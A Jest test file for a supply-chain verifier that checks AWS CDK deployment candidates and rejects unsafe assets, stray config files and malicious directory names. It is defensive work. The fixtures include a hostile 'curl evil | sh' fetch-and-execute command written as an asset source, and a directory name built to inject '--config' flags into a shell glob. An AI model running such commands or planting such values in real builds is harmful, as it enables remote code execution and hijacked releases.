import { mkdirSync, mkdtempSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { packCandidate, verifyCandidate } from '../../../core/handoff/candidate';
import { writeNestedAssembly, ZIP_ASSET } from './nested-assembly';

// GIVEN a synthesized assembly whose prod nested assembly has an asset manifest, and a gated image.
const IMAGE = `111111111111.dkr.ecr.eu-west-1.amazonaws.com/app/web@sha256:${'a'.repeat(64)}`;
let root: string;
let candidate: string;
beforeEach(() => {
  root = mkdtempSync(join(tmpdir(), 'candidate-contents-'));
  candidate = join(root, 'candidate');
  mkdirSync(join(root, 'image'));
  writeFileSync(join(root, 'image', 'imageDetail.json'), JSON.stringify({ ImageURI: IMAGE }));
});
afterEach(() => rmSync(root, { recursive: true, force: true }));

/** A function whose code is the zip asset: the template names the asset's key. */
const FUNCTION_TEMPLATE = {
  Resources: {
    Fn: {
      Type: 'AWS::Lambda::Function',
      Properties: {
        Code: { S3Bucket: ZIP_ASSET.destinations.prod.bucketName, S3Key: ZIP_ASSET.destinations.prod.objectKey },
      },
    },
  },
};

function packWithAssets(
  files: Record<string, unknown>,
  dockerImages?: Record<string, unknown>,
  template: unknown = FUNCTION_TEMPLATE,
): void {
  writeNestedAssembly(join(root, 'cdk.out', 'assembly-app-prod'), template, files, 'app-prod-service');
  if (dockerImages) {
    const file = join(root, 'cdk.out', 'assembly-app-prod', 'app-prod-service.assets.json');
    writeFileSync(file, JSON.stringify({ ...JSON.parse(readFileSync(file, 'utf8')), dockerImages }));
  }
  packCandidate({
    assemblyDir: join(root, 'cdk.out'),
    imageDirs: { web: join(root, 'image') },
    extra: {},
    manifest: { commit: 'a'.repeat(40), assemblies: { prod: 'assembly-app-prod' } },
    outDir: candidate,
  });
}

test('admits file assets that are paths of the candidate, packaged as file or zip', () => {
  packWithAssets({ a: ZIP_ASSET });
  expect(() => verifyCandidate(candidate)).not.toThrow();
});

test('refuses a file asset that no stack deploys or names: it would only wait under a key a later candidate names', () => {
  packWithAssets({ a: ZIP_ASSET }, undefined, {});
  expect(() => verifyCandidate(candidate)).toThrow(
    `cdk.out/assembly-app-prod: file asset ../asset.1234 (${'1'.repeat(64)}.zip) is deployed or named by no stack of the assembly: a protected assembly publishes only what it deploys`,
  );
});

test('refuses a file asset that cdk deploy would produce by running a command', () => {
  packWithAssets({ evil: { source: { executable: ['sh', '-c', 'curl evil | sh'] } } });
  expect(() => verifyCandidate(candidate)).toThrow(
    `cdk.out/assembly-app-prod/app-prod-service.assets.json: file asset evil must be a path inside the candidate's cdk.out packaged as file or zip, got {"executable":["sh","-c","curl evil | sh"]}`,
  );
});

test('refuses a docker image asset, which cdk deploy would build', () => {
  packWithAssets({ a: ZIP_ASSET }, { img: { source: { directory: '.' } } });
  expect(() => verifyCandidate(candidate)).toThrow(
    'cdk.out/assembly-app-prod/app-prod-service.assets.json: docker image asset img would be built at deploy',
  );
});

test.each(['.npmrc', 'node_modules', 'cdk.json'])(
  'refuses a top-level %s, which the hand-off does not pack by the tool and a release step could read',
  (name) => {
    // Packed as a commit's hand-off could: an include of its own, under the checksums.
    writeFileSync(join(root, 'included'), 'registry=https://registry.example\n');
    writeNestedAssembly(
      join(root, 'cdk.out', 'assembly-app-prod'),
      FUNCTION_TEMPLATE,
      { a: ZIP_ASSET },
      'app-prod-service',
    );
    packCandidate({
      assemblyDir: join(root, 'cdk.out'),
      imageDirs: { web: join(root, 'image') },
      extra: { [name]: join(root, 'included') },
      manifest: { commit: 'a'.repeat(40), assemblies: { prod: 'assembly-app-prod' } },
      outDir: candidate,
    });
    expect(() => verifyCandidate(candidate)).toThrow(
      `the candidate holds ${name}, which the hand-off does not pack: a candidate holds only cdk.out, manifest.json, SHA256SUMS, config.yaml, suite.zip, frontend-dist`,
    );
  },
);

test('refuses an empty directory whose name a shell glob would split into flags, though no checksum covers it', () => {
  packWithAssets({ a: ZIP_ASSET });
  mkdirSync(join(candidate, 'cdk.out', 'assembly-x --config decoy.yaml'));
  expect(() => verifyCandidate(candidate)).toThrow(
    'the candidate holds "cdk.out/assembly-x --config decoy.yaml": names may hold only letters, digits and ._@+=-',
  );
});

test('refuses a nested assembly the manifest does not name', () => {
  packWithAssets({ a: ZIP_ASSET });
  mkdirSync(join(candidate, 'cdk.out', 'assembly-app-other'));
  expect(() => verifyCandidate(candidate)).toThrow(
    'the candidate holds cdk.out/assembly-app-other, which is neither a nested assembly the manifest names nor a file asset',
  );
});
